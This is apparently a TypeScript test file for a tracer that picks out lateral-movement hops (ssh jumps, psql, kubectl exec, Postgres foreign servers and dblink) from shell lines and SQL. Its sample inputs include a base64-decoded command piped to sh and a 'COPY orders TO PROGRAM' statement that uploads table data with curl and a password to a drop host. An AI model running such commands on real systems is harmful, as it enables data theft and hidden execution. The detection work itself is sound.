import { digestValue, type EventBody, type FoundObservables, MAX_PIVOT_COMMAND, MAX_PIVOTS } from '@hoptrace/events'
import { SqlPivots } from '@hoptrace/sql'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { InMemoryRecording } from '../postgres/in-memory-recording.test-support.ts'
import { aDigestKey } from '../recording/recordings.test-support.ts'
import { appendPivots, inputReaderOf, type NamedPivot, pivotsInLine, pivotsInStatement } from './index.ts'

const sql = await SqlPivots.load()
const inStatement = (text: string) => pivotsInStatement(text, sql.in(text))
const at = ({ body }: NamedPivot) => (body.offset === null ? null : body.command.slice(body.offset))

function recorded(pivots: NamedPivot[]) {
  const events: { body: EventBody<'pivot.named'>; found: FoundObservables }[] = []
  appendPivots((_type, body, found) => events.push({ body, found }), aDigestKey, { event: 7, at: '/command' }, pivots)
  return events.map(({ body, found }) => ({ ...body, observables: found.observables }))
}
const named = (kind: 'host' | 'address' | 'pod', value: string, where: string, offset: number) =>
  expect.objectContaining({ kind, role: 'named', at: where, offset, value, digest: digestValue(aDigestKey, kind, value) })

describe('the pivots that a command line names', () => {
  it('say where to, by what, from where, and where that stands', () => {
    const line = 'ssh -J ops@jump.internal root@10.0.0.7 "psql -h db.internal -U app orders"'
    const events = recorded(pivotsInLine(line))
    const nothing = { port: null, account: null, object: null, on: null, event: 7, at: '/command', command: line }
    expect(events).toEqual([
      {
        ...nothing,
        tool: 'ssh',
        relation: 'jump',
        host: 'jump.internal',
        account: 'ops',
        offset: 11,
        observables: [named('host', 'jump.internal', '/command', 11)],
      },
      {
        ...nothing,
        tool: 'ssh',
        relation: 'connect',
        host: '10.0.0.7',
        account: 'root',
        offset: 30,
        observables: [named('address', '10.0.0.7', '/command', 30)],
      },
      {
        ...nothing,
        tool: 'psql',
        relation: 'connect',
        host: 'db.internal',
        account: 'app',
        object: 'orders',
        on: '10.0.0.7',
        offset: 48,
        observables: [named('host', 'db.internal', '/command', 48)],
      },
    ]) // prettier-ignore
  })

  it('name pods by both of their canonical forms, and services by their host in the cluster', () => {
    const observables = (line: string) =>
      recorded(pivotsInLine(line)).flatMap((event) => event.observables.map(({ kind, value }) => [kind, value]))
    expect(observables('kubectl -n shop exec -it web-7c9d8bf6d5-x2kqp -- sh')).toEqual([
      ['pod', 'shop/web-7c9d8bf6d5-x2kqp'],
      ['pod', '*/web-7c9d8bf6d5-x2kqp'],
    ])
    expect(observables('kubectl exec pod/web-7c9d8bf6d5-x2kqp -- id')).toEqual([['pod', '*/web-7c9d8bf6d5-x2kqp']])
    expect(observables('kubectl port-forward -n shop svc/billing 8080:80')).toEqual([['host', 'billing.shop.svc.cluster.local']])
    expect(observables('kubectl exec -n shop deploy/web -- id')).toEqual([])
    expect(observables('kubectl --server https://10.0.0.1:6443 cp shop/web:/x .')).toEqual([
      ['address', '10.0.0.1'],
      ['pod', 'shop/web'],
    ])
    expect(observables('docker exec shop/web id')).toEqual([])
  })

  it('tell no place in the line where an encoding hides it', () => {
    const [event] = recorded(pivotsInLine(`echo ${Buffer.from('ssh ops@hidden.internal').toString('base64')} | base64 -d | sh`))
    expect(event).toMatchObject({ host: 'hidden.internal', offset: null, observables: [named('host', 'hidden.internal', '/host', 0)] })
  })

  it('present the secrets that their command uses, so that these are hidden from whoever may not see them', () => {
    const [event] = recorded(pivotsInLine('sshpass -p hunter2 ssh ops@bastion'))
    const digest = digestValue(aDigestKey, 'credential', 'hunter2')
    expect(event?.observables).toContainEqual(
      expect.objectContaining({ kind: 'credential', role: 'presented', at: '/command', offset: 11, digest }),
    )
  })

  it('keep of a long line the part around each, and say so', () => {
    const line = `${'x '.repeat(10_000)}; ssh bastion.internal; ${'y '.repeat(10_000)}`
    const [pivot] = pivotsInLine(line)
    expect(pivot?.body.truncated).toEqual({ kept: MAX_PIVOT_COMMAND, total: line.length })
    expect(pivot && at(pivot)).toMatch(/^bastion\.internal; y/)
  })

  it('cut a secret at the edge so that its rest is still known as one', () => {
    const line = `sshpass -p ${'s'.repeat(3500)} ssh -i ${'k'.repeat(3000)} bastion`
    const [event] = recorded(pivotsInLine(line))
    expect(event?.observables).toContainEqual(expect.objectContaining({ kind: 'credential', offset: 0 }))
  })

  it('are 64 at most of 10,000, with little of the line each', () => {
    const pivots = pivotsInLine(Array.from({ length: 10_000 }, (_, n) => `ssh h${n}.internal; `).join(''))
    expect(pivotsInLine('ssh a.internal; '.repeat(10_000))).toHaveLength(1)
    expect(pivots).toHaveLength(MAX_PIVOTS)
    expect(pivots.reduce((sum, { body }) => sum + body.command.length, 0)).toBeLessThanOrEqual(64 * 1024)
  })

  it('hold no control characters, and point at what they say, for 3,000 seeded hostile lines', () => {
    const part = fc.oneof(
      fc.constantFrom(
        'ssh ',
        'psql -h ',
        ' -J ',
        '\x1b[31m',
        '\u202e',
        '$(',
        ')',
        "'",
        '"',
        '`',
        '\n',
        '|',
        ';',
        'a@b.c',
        '😀',
        '\0',
        'kubectl exec -n x ',
        ' -- ',
        'curl http://h/',
      ),
      fc.string({ unit: 'binary', maxLength: 4 }),
    ) // prettier-ignore
    const recording = new InMemoryRecording()
    fc.assert(
      fc.property(fc.array(part, { maxLength: 40 }), (parts) => {
        const pivots = pivotsInLine(parts.join('').toWellFormed())
        appendPivots((type, body, found) => recording.append(type, body, found), aDigestKey, { event: 0, at: '' }, pivots)
        for (const pivot of pivots) {
          const { host, object } = pivot.body
          expect(`${pivot.body.command}${host}${object}`).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f\u202e]/)
          if (pivot.body.offset !== null) expect(at(pivot)?.startsWith(host ?? object ?? '')).toBe(true)
        }
      }),
      { numRuns: 3000, seed: 2026 },
    )
  })
})

describe('what is put into a program', () => {
  const told = (command: string, line: string) => inputReaderOf(command, false)?.(line).map(({ body }) => [body.host, body.on])
  it('is read as commands where a shell reads it, there where that shell runs', () => {
    expect(told('bash -s', 'ssh inner')).toEqual([['inner', null]])
    expect(told('sudo -n bash', 'ssh inner')).toEqual([['inner', null]])
    expect(told('ssh jump', 'ssh inner')).toEqual([['inner', 'jump']])
    expect(told('docker exec -i web sh', 'ssh inner')).toEqual([['inner', 'web']])
    expect(told('bash -c id', 'ssh inner')).toBeUndefined()
    expect(told('bash script.sh', 'ssh inner')).toBeUndefined()
    expect(told('cat > notes', 'ssh inner')).toBeUndefined()
    expect(told('echo id | sh', 'ssh inner')).toBeUndefined()
  })
})

describe('the pivots that a statement names', () => {
  it('say what makes the database go, and where that stands', () => {
    const text = "SELECT 1; CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (dbname 'orders', host 'db.internal', port '5433')"
    const [event] = recorded(inStatement(text))
    expect(event).toMatchObject({ tool: 'server', relation: 'connect', host: 'db.internal', port: 5433, object: 'orders', command: text })
    expect(text.slice(event?.offset ?? 0)).toMatch(/^db\.internal'/)
    expect(event?.observables).toEqual([named('host', 'db.internal', '/command', text.indexOf('db.internal'))])
  })

  it('go on into the command line that the database would run', () => {
    const text = "COPY orders TO PROGRAM 'curl -T - -u ops:hunter2 http://drop.internal/x'"
    const [event] = recorded(inStatement(text))
    expect(event).toMatchObject({ tool: 'curl', relation: 'fetch', host: 'drop.internal', offset: text.indexOf('drop.internal') })
    const secret = expect.objectContaining({ role: 'presented', offset: text.indexOf('hunter2') })
    expect(event?.observables).toContainEqual(secret)
  })

  it('present the password that they connect with', () => {
    const text = "CREATE USER MAPPING FOR app SERVER s OPTIONS (user 'app', password 'hunter2')"
    const [event] = recorded(inStatement(text))
    expect(event).toMatchObject({ tool: 'user-mapping', host: null, account: 'app', offset: null })
    const digest = digestValue(aDigestKey, 'credential', 'hunter2')
    expect(event?.observables).toEqual([
      expect.objectContaining({ kind: 'credential', role: 'presented', digest, offset: text.indexOf('hunter2') }),
    ])
  })

  it('are found beside a statement that does not parse, and behind a name in escapes', () => {
    expect(inStatement("nonsense; SELECT dblink('host=a.internal', 'x')").map(({ body }) => body.host)).toEqual(['a.internal'])
    expect(inStatement(`SELECT U&"d\\0062link"('host=a.internal', 'x')`).map(({ body }) => body.host)).toEqual(['a.internal'])
  })
})
